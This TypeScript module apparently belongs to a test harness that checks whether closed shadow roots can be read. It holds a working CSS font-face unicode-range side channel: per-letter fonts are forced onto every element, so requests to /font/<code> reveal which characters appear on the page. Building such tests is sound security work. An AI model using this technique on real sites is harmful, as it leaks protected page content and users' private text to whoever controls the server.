/** Has one font for each letter, so that the server learns which letters are drawn. */
import type { ReadAttack } from '../attack.ts';

const address = (letter: string): string => `/font/${letter.codePointAt(0)?.toString(16)}`;

export const asksForFonts: ReadAttack = {
  weakness: 'closed-root',
  grab: async ({ pause }) => {
    const faces = Array.from({ length: 33 }, (_, index) => {
      const code = (0x10d0 + index).toString(16);
      return `@font-face { font-family: spy; src: url(/font/${code}); unicode-range: U+${code}; }`;
    });
    const style = document.createElement('style');
    style.textContent = `${faces.join('\n')} * { font-family: spy !important; }`;
    document.head.append(style);
    for (const one of document.querySelectorAll<HTMLElement>('*')) {
      one.style.setProperty('font-family', 'spy', 'important');
      one.shadowRoot?.append(style.cloneNode(true));
    }
    await pause(1_000);
  },
  traces: (canary) => [...canary].map(address),
};
